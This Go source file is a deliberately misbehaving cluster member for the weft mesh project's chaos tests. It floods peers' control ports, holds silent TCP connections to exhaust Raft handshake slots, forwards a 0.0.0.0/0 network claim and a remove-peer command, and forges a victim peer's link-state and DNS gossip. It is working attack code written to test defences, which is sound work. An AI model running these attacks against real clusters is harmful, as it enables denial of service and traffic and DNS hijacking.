// Command rogue is a weft member built to misbehave, for the chaos test that runs it beside
// honest peers (chaos-tests/rogue_test.go). It holds the cluster's secret, so it is "a
// member holding the key" of the threat model, and it runs every attack of issue 12 at
// once until it is stopped:
//
//   - flood: garbage to every control port of every honest peer it can reach (mesh UDP and
//     TCP, Raft TCP, probe and link-probe UDP, WireGuard UDP), at a bounded rate, plus
//     silent TCP connections held open to each Raft port and reopened when closed;
//   - claim: a network 0.0.0.0/0 with /1 blocks, claimed through the peer transport
//     (leader forwarding), as in the audit;
//   - forge: it joins the mesh with the key and publishes link state and DNS entries that
//     claim to come from an honest peer, at huge versions and at plausible ones, with
//     tombstones for that peer's real names.
//
// It only ever sends to the addresses it is given (the lab's hosts, inside the lab's
// namespaces). Each attack writes one JSON line per outcome on stdout, for the test to read.
package main

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"log/slog"
	"math"
	mrand "math/rand/v2"
	"net"
	"net/netip"
	"os"
	"os/signal"
	"slices"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/hashicorp/raft"

	"github.com/weftnet/weft/dns"
	"github.com/weftnet/weft/ipam"
	"github.com/weftnet/weft/mesh"
	"github.com/weftnet/weft/mesh/identity"
)

// Ports of an honest peer (weft's defaults, which the lab keeps).
const (
	portMesh      = 6783
	portRaft      = 6785
	portWireGuard = 6786
	portProbe     = 6787
	portLinkProbe = 6788
)

// config is what the test tells the rogue.
type config struct {
	name      string                // the rogue's own mesh name
	addr      netip.Addr            // its underlay address
	password  []byte                // the cluster secret it holds
	peers     []netip.Addr          // honest peers' underlay addresses: the only targets
	victim    string                // the honest peer whose entries it forges
	hijack    map[string]netip.Addr // the victim's DNS names and their real addresses: tombstoned, then pointed at fakeAddr
	fakeAddr  netip.Addr            // the address forged DNS entries point at
	pps       int                   // UDP garbage packets per second, all targets together
	tcpPerSec int                   // garbage TCP connections per second, all targets together
	silent    int                   // silent connections held open to each Raft port
	every     time.Duration
	self      *identity.Identity // its own identity: announced in the mesh, proven on the peer transport
}

func main() {
	var (
		cfg                 config
		addr, peers, pwFile string
		hijack, fake        string
		name                = flag.String("name", "rogue", "the rogue's mesh name")
		victim              = flag.String("victim", "", "honest peer whose link state and DNS entries are forged")
		pps                 = flag.Int("pps", 3000, "UDP garbage packets per second, all targets together")
		tcpRate             = flag.Int("tcp-rate", 50, "garbage TCP connections per second, all targets together")
		silent              = flag.Int("silent", 300, "silent TCP connections held open to each Raft port")
		every               = flag.Duration("every", 2*time.Second, "how often forged gossip and the claim are repeated")
		attacks             = flag.String("attacks", "flood,silent,claim,forge", "attacks to run")
	)
	flag.StringVar(&addr, "addr", "", "the rogue's underlay address (bind)")
	flag.StringVar(&peers, "peers", "", "comma-separated underlay addresses of the honest peers (the only targets)")
	flag.StringVar(&pwFile, "key-file", "", "the cluster key (weft keygen's format: base64 of 32 bytes)")
	flag.StringVar(&hijack, "hijack", "", "comma-separated NAME=ADDR: the victim's DNS names and real addresses to forge over")
	flag.StringVar(&fake, "fake-addr", "10.40.255.254", "address the forged DNS entries point at")
	flag.Parse()

	cfg.name, cfg.victim, cfg.pps, cfg.tcpPerSec, cfg.silent, cfg.every = *name, *victim, *pps, *tcpRate, *silent, *every
	cfg.self = identity.Generate()
	var err error
	if cfg.addr, err = netip.ParseAddr(addr); err != nil {
		fatal("--addr: %v", err)
	}
	for _, p := range strings.Split(peers, ",") {
		a, err := netip.ParseAddr(strings.TrimSpace(p))
		if err != nil {
			fatal("--peers: %v", err)
		}
		cfg.peers = append(cfg.peers, a)
	}
	if pwFile != "" {
		b, err := os.ReadFile(pwFile)
		if err != nil {
			fatal("--key-file: %v", err)
		}
		key, err := base64.StdEncoding.DecodeString(strings.TrimSpace(string(b)))
		if err != nil || len(key) != 32 {
			fatal("--key-file %s: not base64 of 32 bytes", pwFile)
		}
		cfg.password = key
	}
	cfg.hijack = map[string]netip.Addr{}
	for _, kv := range strings.Split(hijack, ",") {
		if kv == "" {
			continue
		}
		n, a, _ := strings.Cut(kv, "=")
		ad, err := netip.ParseAddr(a)
		if err != nil {
			fatal("--hijack %q: %v", kv, err)
		}
		cfg.hijack[n] = ad
	}
	if cfg.fakeAddr, err = netip.ParseAddr(fake); err != nil {
		fatal("--fake-addr: %v", err)
	}
	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM, syscall.SIGINT)
	defer stop()
	if err := run(ctx, cfg, strings.Split(*attacks, ",")); err != nil {
		fatal("%v", err)
	}
}

func fatal(format string, a ...any) {
	fmt.Fprintf(os.Stderr, "rogue: "+format+"\n", a...)
	os.Exit(1)
}

// report writes one outcome as a JSON line; the test reads them.
var reportMu sync.Mutex

func report(attack string, kv ...any) {
	m := map[string]any{"attack": attack, "time": time.Now().UTC().Format(time.RFC3339Nano)}
	for i := 0; i+1 < len(kv); i += 2 {
		v := kv[i+1]
		if err, ok := v.(error); ok {
			v = err.Error()
		}
		m[fmt.Sprint(kv[i])] = v
	}
	b, _ := json.Marshal(m)
	reportMu.Lock()
	defer reportMu.Unlock()
	os.Stdout.Write(append(b, '\n'))
}

func run(ctx context.Context, cfg config, attacks []string) error {
	// Enough descriptors for the silent connections: the soft limit up to the hard one.
	var lim syscall.Rlimit
	if err := syscall.Getrlimit(syscall.RLIMIT_NOFILE, &lim); err == nil && lim.Cur < lim.Max {
		lim.Cur = lim.Max
		if err := syscall.Setrlimit(syscall.RLIMIT_NOFILE, &lim); err != nil {
			report("setup", "err", fmt.Errorf("raise open files limit: %w", err))
		}
	}
	var wg sync.WaitGroup
	start := func(f func(context.Context, config)) {
		wg.Add(1)
		go func() { defer wg.Done(); f(ctx, cfg) }()
	}
	// The rogue joins the mesh first (forge does): the honest peers' transport lets in only
	// a name whose key the mesh pinned, so a claim sent before the join is refused at the
	// handshake and never reaches the leader's checks.
	if slices.Contains(attacks, "forge") {
		start(forgeGossip)
	}
	// The claim goes next and the others wait for its first round: the silent connections
	// fill this host's per-source handshake slots on every honest peer, which would refuse
	// the rogue's own claim before the leader ever judged it (one source address here).
	if slices.Contains(attacks, "claim") {
		firstRound := make(chan struct{})
		wg.Add(1)
		go func() { defer wg.Done(); claimEverything(ctx, cfg, firstRound) }()
		select {
		case <-firstRound:
		case <-ctx.Done():
		}
	}
	for _, a := range attacks {
		switch a {
		case "flood":
			start(floodUDP)
			start(floodTCP)
		case "silent":
			start(holdSilent)
		case "claim", "forge": // started above
		default:
			return fmt.Errorf("unknown attack %q", a)
		}
	}
	report("started", "attacks", attacks)
	wg.Wait()
	return nil
}

// garbage returns 1..max random bytes.
func garbage(max int) []byte {
	b := make([]byte, 1+mrand.IntN(max))
	rand.Read(b)
	return b
}

// floodUDP sends garbage to every UDP control port of every honest peer, cfg.pps packets a
// second in all (a ticker: it never goes faster, and drops ticks when it cannot keep up).
func floodUDP(ctx context.Context, cfg config) {
	var targets []*net.UDPAddr
	for _, p := range cfg.peers {
		for _, port := range []int{portMesh, portWireGuard, portProbe, portLinkProbe} {
			targets = append(targets, net.UDPAddrFromAddrPort(netip.AddrPortFrom(p, uint16(port))))
		}
	}
	conn, err := net.ListenUDP("udp", net.UDPAddrFromAddrPort(netip.AddrPortFrom(cfg.addr, 0)))
	if err != nil {
		report("flood-udp", "err", err)
		return
	}
	defer conn.Close()
	if cfg.pps <= 0 {
		return
	}
	// A tick every millisecond with its share of packets: a ticker per packet cannot go
	// much above 1000/s, and a burst of a few packets a millisecond still loads the peers.
	tick := time.NewTicker(time.Millisecond)
	defer tick.Stop()
	perTick, carry := cfg.pps/1000, cfg.pps%1000
	sent, failed := 0, 0
	status := time.NewTicker(5 * time.Second)
	defer status.Stop()
	for i := 0; ; i++ {
		select {
		case <-ctx.Done():
			report("flood-udp", "sent", sent, "failed", failed, "done", true)
			return
		case <-status.C:
			report("flood-udp", "sent", sent, "failed", failed)
		case <-tick.C:
			n := perTick
			if i%1000 < carry {
				n++
			}
			for j := range n {
				if _, err := conn.WriteToUDP(garbage(1400), targets[(i*n+j)%len(targets)]); err != nil {
					failed++
				} else {
					sent++
				}
			}
		}
	}
}

// floodTCP opens connections to the mesh and Raft TCP ports, writes garbage and closes,
// cfg.tcpPerSec a second in all.
func floodTCP(ctx context.Context, cfg config) {
	var targets []netip.AddrPort
	for _, p := range cfg.peers {
		targets = append(targets, netip.AddrPortFrom(p, portMesh), netip.AddrPortFrom(p, portRaft))
	}
	if cfg.tcpPerSec <= 0 {
		return
	}
	d := net.Dialer{Timeout: time.Second, LocalAddr: &net.TCPAddr{IP: cfg.addr.AsSlice()}}
	tick := time.NewTicker(time.Second / time.Duration(cfg.tcpPerSec))
	defer tick.Stop()
	status := time.NewTicker(5 * time.Second)
	defer status.Stop()
	opened, failed := 0, 0
	for i := 0; ; i++ {
		select {
		case <-ctx.Done():
			report("flood-tcp", "opened", opened, "failed", failed, "done", true)
			return
		case <-status.C:
			report("flood-tcp", "opened", opened, "failed", failed)
		case <-tick.C:
			c, err := d.DialContext(ctx, "tcp", targets[i%len(targets)].String())
			if err != nil {
				failed++
				continue
			}
			opened++
			c.SetWriteDeadline(time.Now().Add(200 * time.Millisecond))
			c.Write(garbage(4096))
			c.Close()
		}
	}
}

// holdSilent keeps cfg.silent TCP connections open to each honest Raft port without
// sending a byte, and reopens every one the peer closes: a handshake slot held forever.
// A slot the peer closes at once is reopened after a second, not in a tight loop.
func holdSilent(ctx context.Context, cfg config) {
	var wg sync.WaitGroup
	var mu sync.Mutex
	open, reopened, failed := 0, 0, 0
	for _, p := range cfg.peers {
		target := netip.AddrPortFrom(p, portRaft).String()
		for range cfg.silent {
			wg.Add(1)
			go func() {
				defer wg.Done()
				d := net.Dialer{Timeout: 2 * time.Second, LocalAddr: &net.TCPAddr{IP: cfg.addr.AsSlice()}}
				first := true
				for ctx.Err() == nil {
					c, err := d.DialContext(ctx, "tcp", target)
					if err != nil {
						mu.Lock()
						failed++
						mu.Unlock()
						select {
						case <-ctx.Done():
						case <-time.After(200 * time.Millisecond):
						}
						continue
					}
					mu.Lock()
					if first {
						open++
					} else {
						reopened++
					}
					mu.Unlock()
					first = false
					// Wait for the peer to give up on us (a read returns), or for the end.
					done := make(chan struct{})
					go func() {
						defer close(done)
						c.Read(make([]byte, 1))
					}()
					opened := time.Now()
					select {
					case <-ctx.Done():
					case <-done:
					}
					c.Close()
					<-done
					// Reopen at once after a long hold; after a quick refusal wait a
					// second, so each slot reopens at most once a second (the flood stays
					// bounded: cfg.silent connections a second per peer at most).
					if wait := time.Second - time.Since(opened); wait > 0 {
						select {
						case <-ctx.Done():
						case <-time.After(wait):
						}
					}
				}
			}()
		}
	}
	status := time.NewTicker(5 * time.Second)
	defer status.Stop()
	for {
		select {
		case <-ctx.Done():
			wg.Wait()
			report("silent", "open", open, "reopened", reopened, "failed", failed, "done", true)
			return
		case <-status.C:
			mu.Lock()
			report("silent", "open", open, "reopened", reopened, "failed", failed)
			mu.Unlock()
		}
	}
}

// claimEverything forwards a claim for a network 0.0.0.0/0 with /1 blocks to every honest
// peer's Raft address through the authenticated peer transport, as a follower forwards to
// its leader, again every cfg.every: whoever leads gets it.
// firstRound is closed once every peer has had both commands once past the handshake (its
// transport knows the rogue's key once the mesh has pinned it, a second or so after the
// join), or after joinWait: until then the rounds repeat every half second.
func claimEverything(ctx context.Context, cfg config, firstRound chan<- struct{}) {
	const joinWait = 30 * time.Second
	var once sync.Once
	roundDone := func() { once.Do(func() { close(firstRound) }) }
	defer roundDone()
	started := time.Now()
	first := true
	tr, err := ipam.NewPeerTransport(ipam.TransportConfig{
		BindAddr: netip.AddrPortFrom(cfg.addr, 0).String(),
		Key:      ipam.DeriveKey(cfg.password),
		// A member as real as the rogue can be: its own name and identity, which the honest
		// peers pinned when it joined the mesh, so the transport lets it through and the
		// claim meets the leader's checks.
		Name:     cfg.name,
		Identity: cfg.self.Signer(),
		Logger:   slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelWarn})),
	})
	if err != nil {
		report("claim", "err", fmt.Errorf("peer transport: %w", err))
		return
	}
	defer tr.Close()
	forward := ipam.HTTPForwarder(tr.DialRPC)
	// The command as the audit sent it: the claim defines its own network.
	cmd, _ := json.Marshal(map[string]any{
		"op":      "claim",
		"network": map[string]any{"name": "rogue", "subnet": "0.0.0.0/0", "block_bits": 1},
		"peer":    cfg.name,
	})
	// And the other way to take a live peer's traffic: remove it, so that its blocks go to
	// whoever claims next.
	remove, _ := json.Marshal(map[string]any{"op": "remove-peer", "peer": cfg.victim})
	for {
		refusedAtHandshake := false
		for _, p := range cfg.peers {
			for _, c := range [][]byte{cmd, remove} {
				if cfg.victim == "" && bytes.Equal(c, remove) {
					continue
				}
				cctx, cancel := context.WithTimeout(ctx, 5*time.Second)
				out, err := forward(cctx, raft.ServerAddress(netip.AddrPortFrom(p, portRaft).String()), c)
				cancel()
				if err != nil {
					report("claim", "target", p.String(), "err", err)
					// The forwarder carries the transport's error as text.
					refusedAtHandshake = refusedAtHandshake || errors.Is(err, ipam.ErrAuthFailed) || strings.Contains(err.Error(), ipam.ErrAuthFailed.Error())
				} else {
					report("claim", "target", p.String(), "answer", string(out))
				}
			}
		}
		every := cfg.every
		if first && refusedAtHandshake && time.Since(started) < joinWait {
			every = 500 * time.Millisecond // not pinned yet: try again soon
		} else {
			first = false
			roundDone()
		}
		select {
		case <-ctx.Done():
			return
		case <-time.After(every):
		}
	}
}

// quiet is a channel handler that takes nothing in and offers state only when given one.
type quiet struct{ state func() []byte }

func (quiet) NotifyMsg([]byte) {}
func (q quiet) LocalState(bool) []byte {
	if q.state == nil {
		return nil
	}
	return q.state()
}
func (quiet) MergeRemoteState([]byte, bool) {}

// forgeGossip joins the mesh with the key as cfg.name and, again every cfg.every, publishes
// in cfg.victim's name: its links to the other honest peers down, at a huge version
// (the wall clock in µs at its maximum) and at a plausible one (two minutes ahead); its DNS
// names removed (tombstones) and pointed at cfg.fakeAddr, at a version just below the
// records' bound and at a plausible one. The forged DNS state also rides push/pull.
func forgeGossip(ctx context.Context, cfg config) {
	logger := slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelWarn}))
	huge := func() time.Time { return time.UnixMicro(math.MaxInt64 - 1<<20) }
	ahead := func() time.Time { return time.Now().Add(2 * time.Minute) }

	// DNS: one store in the victim's name per clock. Each first learns the victim's real
	// entries the way the forger would (it adds them itself), then removes them (forged
	// tombstones, newer than the owner's) and adds the fake address under the same names.
	// "bound" sits just below the records' version bound (2^62), the audit's attack that
	// pushes the owner's clock to its end.
	bound := func() time.Time { return time.UnixMicro(1<<62 - 1<<20) }
	type forgedDNS struct {
		label string
		recs  *dns.Records
	}
	var forged []forgedDNS
	self := cfg.self // the rogue's own identity, announced in its metadata
	for _, c := range []struct {
		label string
		now   func() time.Time
	}{{"huge", huge}, {"bound", bound}, {"ahead", ahead}} {
		if cfg.victim == "" {
			break
		}
		// Signed, but with the rogue's own identity: the victim's key is pinned on every
		// honest peer, so these must fail verification there.
		recs, err := dns.NewSignedRecords(dns.RecordsConfig{Self: cfg.victim, Now: c.now, Signer: self,
			Keys: func(string) (ed25519.PublicKey, bool) { return self.Public(), true }})
		if err != nil {
			report("forge-dns", "err", err)
			return
		}
		forged = append(forged, forgedDNS{label: c.label, recs: recs})
	}
	dnsState := func() []byte {
		if len(forged) == 0 {
			return nil
		}
		return forged[1].recs.Encode() // the "bound" store: accepted by today's receivers
	}

	mcfg := mesh.DefaultConfig()
	mcfg.Name = cfg.name
	mcfg.BindAddr = cfg.addr
	mcfg.Password = cfg.password
	mcfg.Logger = logger
	mcfg.Identity = self
	mcfg.Metadata = mesh.Metadata{Name: cfg.name, Underlay: cfg.addr, Version: "rogue"}
	for _, p := range cfg.peers {
		mcfg.Seeds = append(mcfg.Seeds, p.String())
	}
	m, err := mesh.New(mcfg)
	if err != nil {
		report("forge", "err", fmt.Errorf("mesh: %w", err))
		return
	}
	defer m.Close()
	for _, ch := range []struct {
		name string
		h    mesh.ChannelHandler
	}{
		{mesh.LinkStateChannelName, quiet{}},
		{"dns", quiet{state: dnsState}},
	} {
		if err := m.RegisterChannel(ch.name, ch.h); err != nil {
			report("forge", "err", fmt.Errorf("register %s: %w", ch.name, err))
			return
		}
	}
	if err := m.Start(ctx); err != nil {
		report("forge", "err", fmt.Errorf("join: %w", err))
		return
	}
	defer m.Leave(time.Second)

	// Link state: the victim's links to every other honest peer, down.
	tables := map[string]*mesh.LinkTable{}
	for label, now := range map[string]func() time.Time{"huge": huge, "ahead": ahead} {
		t, err := mesh.NewLinkTable(mesh.LinkTableConfig{Now: now, Logger: logger, Signer: self})
		if err != nil {
			report("forge-linkstate", "err", err)
			return
		}
		tables[label] = t
	}

	for round := 0; ; round++ {
		members := 0
		var others []string
		for _, p := range m.Peers() {
			if p.Up() && p.Name != cfg.name {
				members++
				if p.Name != cfg.victim {
					others = append(others, p.Name)
				}
			}
		}
		if cfg.victim != "" && members > 0 {
			for label, t := range tables {
				links := map[string]mesh.LinkMetrics{}
				for _, o := range others {
					// Down one round, up with a terrible RTT the next, so every round
					// is a change that gets a new version.
					links[o] = mesh.LinkMetrics{Up: round%2 == 1, RTT: 10 * time.Second, Loss: 1}
				}
				msgs, _ := t.PublishLinks(cfg.victim, links)
				sent := 0
				for _, msg := range msgs {
					if err := m.Broadcast(mesh.LinkStateChannelName, msg); err != nil {
						report("forge-linkstate", "version", label, "err", err)
						continue
					}
					sent++
				}
				report("forge-linkstate", "version", label, "as", cfg.victim, "links", len(links), "messages", sent)
			}
			for _, f := range forged {
				label := f.label
				for name, real := range cfg.hijack {
					// A forged tombstone for the victim's real entry (the forger learns the
					// address from DNS gossip; the test hands it over), then the fake
					// address under the victim's name.
					d1, err1 := f.recs.AddAddr(name, real)
					d2, err2 := f.recs.RemoveAddr(name, real)
					d3, err3 := f.recs.RemoveAddr(name, cfg.fakeAddr)
					d4, err4 := f.recs.AddAddr(name, cfg.fakeAddr)
					if err := errors.Join(err1, err2, err3, err4); err != nil {
						report("forge-dns", "version", label, "name", name, "err", err)
						continue
					}
					sent := 0
					for _, d := range []*dns.Delta{d2, d4} {
						if d == nil || d.Empty() {
							continue
						}
						if err := m.Broadcast("dns", d.Encode()); err != nil {
							report("forge-dns", "version", label, "name", name, "err", err)
							continue
						}
						sent++
					}
					_, _ = d1, d3
					report("forge-dns", "version", label, "as", cfg.victim, "name", name, "tombstone", real.String(), "addr", cfg.fakeAddr.String(), "messages", sent)
				}
			}
		} else {
			report("forge", "members", members, "waiting", true)
		}
		select {
		case <-ctx.Done():
			return
		case <-time.After(cfg.every):
		}
	}
}
